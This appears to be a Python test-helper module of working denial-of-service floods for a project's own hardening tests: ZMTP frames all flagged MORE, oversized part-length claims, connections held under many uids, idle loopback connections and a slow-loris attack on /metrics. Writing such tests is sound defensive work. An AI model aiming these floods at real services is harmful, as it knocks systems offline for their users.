"""What a hostile peer sends, for the socket-bound tests, benchmarks/socket_floods.py and the Slurm test
cluster's floods (tests/integration/test_hostile_files_slurm.py)."""

from __future__ import annotations

import os
import socket
import struct


def zmtp_more_flood(sock: socket.socket, total: int, frame_bytes: int = 60 * 1024) -> int:
    """Speak ZMTP 3.0 (NULL) as a DEALER on ``sock`` and send ``total`` bytes of frames all flagged MORE.

    Raw bytes, as an attacker would: libzmq's own client never flushes an unfinished message. Returns
    the bytes sent before the peer closed."""
    greeting = b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\0") + b"\0" * 32
    ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    frame = b"\x03" + struct.pack(">Q", frame_bytes) + b"x" * frame_bytes      # MORE | LONG
    sent = 0
    try:
        sock.sendall(greeting)
        sock.recv(64)                                   # libzmq answers the greeting before it reads on
        sock.sendall(b"\x04" + bytes([len(ready)]) + ready)
        sock.recv(256)                                  # its READY
        sock.sendall(b"\x01\x00")                       # the empty delimiter, flagged MORE
        while sent < total:
            sock.sendall(frame)
            sent += frame_bytes
    except (BrokenPipeError, ConnectionResetError, TimeoutError):
        pass
    return sent


class Holders:
    """Forked children, one per uid, each holding ``per_uid`` connections to ``path`` until ``release()``
    (root only: a flood from many users, not one, so the per-uid cap does not hide the total one)."""

    def __init__(self, path: str, uids: range, per_uid: int):
        self.pids: list[int] = []
        r, self.w = os.pipe()
        for uid in uids:
            pid = os.fork()
            if pid == 0:   # child: never returns into pytest
                try:
                    os.close(self.w)
                    os.setgid(65534)
                    os.setuid(uid)
                    held = []
                    for _ in range(per_uid):
                        c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                        c.setblocking(False)
                        try:
                            c.connect(path)
                        except OSError:
                            pass
                        held.append(c)
                    os.read(r, 1)
                finally:
                    os._exit(0)
            self.pids.append(pid)
        os.close(r)

    def release(self) -> None:
        os.close(self.w)
        for pid in self.pids:
            os.waitpid(pid, 0)


# ---- the four floods of issue 28 (findings 5 to 8) as whole phases: benchmarks/socket_floods.py runs
# them at full size, tests/integration/test_hostile_files_slurm.py smaller on the Slurm test cluster.
# Each returns what it offered and what the peer took (a dict for the results).

def part_claim_flood(sock: socket.socket, claim: int, stream: int, lead: bytes = b"", chunk: int = 1 << 20,
                     replies: list | None = None) -> int:
    """Send ``lead``, then a part header claiming ``claim`` bytes and up to ``stream`` bytes of it; bytes sent
    before the peer closed (a bounded reader refuses the part from its 4-byte header). What the peer answered
    (its first 200 bytes, b"" for nothing) is appended to ``replies`` when given."""
    sent = 0
    data = b"h" * chunk
    try:
        sock.sendall(lead + struct.pack(">I", claim))
        while sent < stream:
            sock.sendall(data)
            sent += chunk
    except (BrokenPipeError, ConnectionResetError, TimeoutError):
        pass
    if replies is not None:
        try:
            sock.settimeout(2.0)
            replies.append(sock.recv(200))
        except OSError:
            replies.append(b"")
    return sent


def _refusals(replies: list) -> dict:
    said = [r for r in replies if r]
    return {"answered": len(said), "answer": said[0][4:120].decode("utf-8", "replace") if said else ""}


def _threads(fns) -> None:
    import threading

    ts = [threading.Thread(target=f) for f in fns]
    for t in ts:
        t.start()
    for t in ts:
        t.join()


def user_socket_flood(path: str, more_conns: int = 4, more_bytes: int = 256 << 20, huge_conns: int = 0,
                      huge_claim: int = 1 << 30, huge_bytes: int = 256 << 20) -> dict:
    """Finding 5 at the user socket: ``more_conns`` connections each offering ``more_bytes`` of ZMTP frames all
    flagged MORE, and ``huge_conns`` each sending a part that claims ``huge_claim`` bytes, ``huge_bytes`` streamed."""
    sent, made, replies = [0], [0], []

    def connect() -> socket.socket:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(path)
        made[0] += 1
        return s

    def more():
        try:
            with connect() as s:
                sent[0] += zmtp_more_flood(s, more_bytes)
        except OSError:
            pass

    def huge():
        try:
            with connect() as s:
                sent[0] += part_claim_flood(s, huge_claim, huge_bytes, replies=replies)
        except OSError:
            pass

    _threads([more] * more_conns + [huge] * huge_conns)
    offered = more_conns * more_bytes + huge_conns * huge_bytes
    return {"offered_mib": offered >> 20, "claimed_mib": (huge_conns * huge_claim) >> 20,
            "accepted_mib": sent[0] >> 20, "connections": made[0], **_refusals(replies)}


def held_connections(path: str, uids: range, per_uid: int, hold_s: float) -> dict:
    """Finding 6: ``per_uid`` idle connections to the Unix socket ``path`` from each of ``uids``, held ``hold_s``."""
    import time

    holders = Holders(path, uids, per_uid)
    time.sleep(hold_s)
    holders.release()
    return {"connections": len(uids) * per_uid, "users": len(uids)}


def collector_flood(host: str, port: int, idle: int = 300, idle_hosts: int = 10, more_conns: int = 4,
                    more_bytes: int = 256 << 20, huge_conns: int = 4, huge_claim: int = 1 << 30,
                    huge_bytes: int = 256 << 20, huge_after_kind: int = 0, kind: bytes = b"",
                    idle_hold_s: float | None = None) -> dict:
    """Finding 7, an unauthenticated network peer at the collector: ``idle`` connections from ``idle_hosts``
    loopback addresses (127.0.0.2...), then ``more_conns`` ZMTP MORE floods of ``more_bytes``, ``huge_conns``
    parts claiming ``huge_claim`` (``huge_bytes`` streamed), and ``huge_after_kind`` credential parts claiming
    as much after a valid ``kind`` part. The idle ones are held through the floods (which then meet the
    connection cap), or with ``idle_hold_s`` that long and closed before them (which then meet the part limits)."""
    import time

    sent, replies = [0], []
    held: list[socket.socket] = []
    errors: list[str] = []
    for i in range(idle):
        try:
            s = socket.socket()
            s.bind((f"127.0.0.{2 + i % idle_hosts}", 0))
            s.setblocking(False)
            try:
                s.connect((host, port))
            except BlockingIOError:
                pass
            held.append(s)
        except OSError as e:
            errors.append(str(e))
    time.sleep(0.5)   # the idle ones taken off the accept queue (128) before the floods compete for it
    if idle_hold_s is not None:
        time.sleep(idle_hold_s)
        for s in held:
            s.close()
        time.sleep(0.5)   # the service sees them closed

    def more():
        try:
            with socket.create_connection((host, port), timeout=10) as s:
                sent[0] += zmtp_more_flood(s, more_bytes)
        except OSError:
            pass

    def huge(lead: bytes = b""):
        try:
            with socket.create_connection((host, port), timeout=10) as s:
                sent[0] += part_claim_flood(s, huge_claim, huge_bytes, lead, replies=replies)
        except OSError:
            pass

    lead = struct.pack(">I", len(kind)) + kind
    _threads([more] * more_conns + [huge] * huge_conns + [lambda: huge(lead)] * huge_after_kind)
    for s in held:
        s.close()
    huge_all = huge_conns + huge_after_kind
    return {"offered_mib": (more_conns * more_bytes + huge_all * huge_bytes) >> 20,
            "claimed_mib": (huge_all * huge_claim) >> 20, "accepted_mib": sent[0] >> 20,
            "idle_connections": len(held), "idle_errors": errors[:2], **_refusals(replies)}


def metrics_loris(host: str, port: int, seconds: float = 20.0, total: int = 2000, at_once: int = 500) -> dict:
    """Finding 8: slow-loris connections to /metrics (at most ``at_once`` open, ``total`` in all), each sending
    its request one byte a second for ``seconds``; then one honest scrape."""
    import time
    import urllib.request

    open_socks: list[socket.socket] = []
    made = refused = step = 0
    end = time.time() + seconds
    req = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"
    while time.time() < end:
        while len(open_socks) < at_once and made < total:
            try:
                s = socket.create_connection((host, port), timeout=2)
                s.setblocking(False)
                open_socks.append(s)
                made += 1
            except OSError:
                refused += 1
                break
        for s in list(open_socks):
            try:
                s.send(req[step % len(req):step % len(req) + 1])
            except OSError:
                open_socks.remove(s)
                s.close()
        step += 1
        time.sleep(1.0)
    for s in open_socks:
        s.close()
    try:
        urllib.request.urlopen(f"http://{host}:{port}/metrics", timeout=10).read()
        scrape = "ok"
    except OSError as e:
        scrape = str(e)
    return {"connections": made, "connect_failures": refused, "scrape_after": scrape}
